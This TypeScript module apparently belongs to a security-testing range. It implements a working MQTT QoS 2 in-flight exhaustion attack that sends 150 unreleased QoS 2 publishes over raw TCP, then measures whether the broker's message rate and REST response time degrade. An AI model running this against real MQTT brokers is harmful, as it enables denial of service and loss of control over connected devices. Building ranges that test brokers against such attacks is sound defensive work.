/**
 * QoS 2 in-flight exhaustion over MQTT: PUBLISH at QoS 2 and never send PUBREL, so the broker
 * must keep every message awaiting release. Raw TCP, since a client library releases each one
 * by itself. A broker without a bound keeps them all (memory, packet ids) for as long as the
 * connection lives; the embedded broker allows 100 and drops the connection past that. The
 * range measures whether the broker or line is impaired: the twin's live message rate as its
 * subscriber receives it, and the REST API's answer time, before and while the attack holds.
 */
import { randomBytes } from 'node:crypto';
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { trail } from './common.ts';
import { impaired, impairedText, read, readingImpact, startMeter } from './mqtt-range.ts';

/** QoS 2 publishes sent: past the embedded broker's limit of 100 */
const SENT = 150;
const PAYLOAD = Buffer.alloc(1024, 0x41);
/** how long the meter reads before and while the attack holds [ms] */
const READ_MS = 1500;

export const mqttQosExhaustion: Attack = {
  id: 'mqtt-qos-exhaustion',
  title: `MQTT QoS 2 in-flight exhaustion: ${SENT} QoS 2 publishes never released`,
  techniques: [T.denialOfService, T.denialOfControl],
  face: 'mqtt',
  preconditions: ['a connection that may publish outside the twin\'s namespace (a gateway\'s account, or any publisher on a broker without ACLs)'],
  steps: [
    'the range reads the twin\'s live message rate and the REST answer time',
    `CONNECT (raw TCP), then ${SENT} PUBLISH QoS 2 with fresh packet ids, never a PUBREL`,
    'count the PUBRECs until the broker closes the connection',
    'the range reads the rate and answer time again while the connection holds',
  ],
  expectedImpact: 'a broker without a bound holds every unreleased message: memory and packet ids run out, publishes of others stall (denial of service, and of control over MQTT)',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { randomClientId } = await import('../clients/mqtt.ts');
    const { publishQos2, rawConnect } = await import('../clients/mqtt-raw.ts');
    const evidence: string[] = [];
    const tag = randomBytes(3).toString('hex');
    const { meter, before } = await startMeter(ctx, evidence, tag, READ_MS);

    const who = ctx.credentials === null ? 'anonymous' : `user "${ctx.credentials.user}"`;
    const clientId = randomClientId();
    const conn = await rawConnect(ctx.target, clientId, ctx.credentials);
    ctx.atEnd(async () => void conn.socket.destroy());
    let pubrecs = 0;
    let closedAfter: number | null = null;
    if (conn.connack !== 0) {
      evidence.push(`MQTT: CONNECT as ${who} (client id ${clientId}) refused${conn.connack === null ? ': connection closed' : ` (CONNACK ${conn.connack})`}`);
    } else {
      evidence.push(`MQTT: CONNECT as ${who} (client id ${clientId}) accepted`);
      const topic = `attack/qos2/${tag}`;
      for (let id = 1; id <= SENT && !conn.closed(); id++) conn.socket.write(publishQos2(topic, id, PAYLOAD));
      const end = Date.now() + 3000;
      while (!conn.closed() && conn.packets.filter((p) => p.type === 5).length < SENT && Date.now() < end) await new Promise((r) => setTimeout(r, 50));
      pubrecs = conn.packets.filter((p) => p.type === 5).length;
      if (conn.closed()) closedAfter = pubrecs;
      evidence.push(`MQTT: ${SENT} × PUBLISH QoS 2 to ${topic} without PUBREL → ${pubrecs} PUBREC${conn.closed() ? `, then the broker closed the connection` : `; the connection stays open with ${pubrecs} messages held`}`);
    }
    const during = await read(ctx, meter, READ_MS);
    conn.socket.destroy();
    const harm = impaired(before, during);
    evidence.push(`range: ${impairedText(before, during, 'during')}`);
    await trail(ctx, evidence, conn.connack !== 0 || conn.closed());
    return {
      outcome: harm !== null ? 'succeeded' : 'blocked',
      evidence,
      impact: { sent: conn.connack === 0 ? SENT : 0, pubrecs, closedByBrokerAfter: closedAfter, inflightLimitHeld: conn.connack !== 0 || pubrecs <= 100, ...readingImpact(before, during) },
    };
  },
  async cleanup() {
    // the held messages go with the attacker's connection
  },
};
